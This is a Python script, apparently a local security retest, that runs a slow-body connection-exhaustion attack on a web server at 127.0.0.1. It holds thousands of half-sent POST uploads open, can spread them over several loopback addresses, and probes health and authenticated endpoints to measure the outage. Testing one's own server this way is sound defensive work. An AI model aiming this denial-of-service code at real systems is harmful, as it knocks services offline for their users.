#!/usr/bin/env python3
"""Slow-body connection-exhaustion retest (issue 17, defect 1). Against 127.0.0.1 only, bounded in time.

Opens ATTACK connections that each send only the headers of `POST /api/v1/files` with
`Content-Length: 8000000` and then nothing, holds them for DURATION seconds, and meanwhile a
normal client asks for /healthz and /api/v1/me (with a token) on a fresh connection every
PROBE_MS. Prints how many attack connections got in, what they were answered, and the probes'
success rate.

usage: security_slow_body_attack.py PORT TOKEN [ATTACK=10000] [DURATION=20] [SOURCES=1]
SOURCES > 1 spreads the attack over 127.0.0.2.. 127.0.0.(1+SOURCES) (many addresses).
"""
import asyncio
import sys
import time

HOST = "127.0.0.1"


async def attacker(port, src, results, done):
    try:
        r, w = await asyncio.wait_for(
            asyncio.open_connection(HOST, port, local_addr=(src, 0)), timeout=10)
    except Exception:
        results["connect_failed"] += 1
        return
    results["connected"] += 1
    w.write(b"POST /api/v1/files HTTP/1.1\r\nHost: x\r\nContent-Type: application/pdf\r\n"
            b"Content-Length: 8000000\r\n\r\n")
    try:
        await w.drain()
        read = asyncio.create_task(r.readline())
        finished, _ = await asyncio.wait({read, asyncio.create_task(done.wait())},
                                         return_when=asyncio.FIRST_COMPLETED)
        if read in finished:
            line = read.result()
            key = line.decode(errors="replace").strip()[:12] or "closed"
            results[key] = results.get(key, 0) + 1
        else:
            read.cancel()
            results["held"] += 1
    except Exception:
        results["reset"] += 1
    finally:
        w.close()


async def probe(port, path, token):
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection(HOST, port), timeout=2)
        hdr = f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        if token:
            hdr += f"Authorization: Bearer {token}\r\n"
        w.write((hdr + "\r\n").encode())
        await w.drain()
        line = await asyncio.wait_for(r.readline(), timeout=2)
        w.close()
        return line.startswith(b"HTTP/1.1 200")
    except Exception:
        return False


async def main():
    port, token = int(sys.argv[1]), sys.argv[2]
    n = int(sys.argv[3]) if len(sys.argv) > 3 else 10000
    duration = float(sys.argv[4]) if len(sys.argv) > 4 else 20
    sources = int(sys.argv[5]) if len(sys.argv) > 5 else 1
    done = asyncio.Event()
    results = {"connected": 0, "connect_failed": 0, "held": 0, "reset": 0}
    tasks = []
    for i in range(n):
        src = "127.0.0.1" if sources <= 1 else f"127.0.0.{2 + i % sources}"
        tasks.append(asyncio.create_task(attacker(port, src, results, done)))
        if i % 500 == 499:
            await asyncio.sleep(0.05)
    # Probe while the attack is on: from when every attack connection was started, for DURATION s.
    probes = {"/healthz": [0, 0], "/api/v1/me": [0, 0]}
    stop = time.monotonic() + duration
    while time.monotonic() < stop:
        for path in probes:
            ok = await probe(port, path, token if path != "/healthz" else "")
            probes[path][0] += ok
            probes[path][1] += 1
        await asyncio.sleep(0.1)
    answered = sum(v for k, v in results.items() if k not in ("connected", "connect_failed", "held"))
    print(f"at the end of the probes: {results['connected']} attack connections opened, "
          f"{results['connected'] - answered} held open by the server", flush=True)
    done.set()
    await asyncio.gather(*tasks)
    print("attack:", {k: v for k, v in results.items() if v})
    for path, (ok, total) in probes.items():
        print(f"probe {path}: {ok}/{total} ok ({100.0 * ok / max(1, total):.1f}%)")


asyncio.run(main())
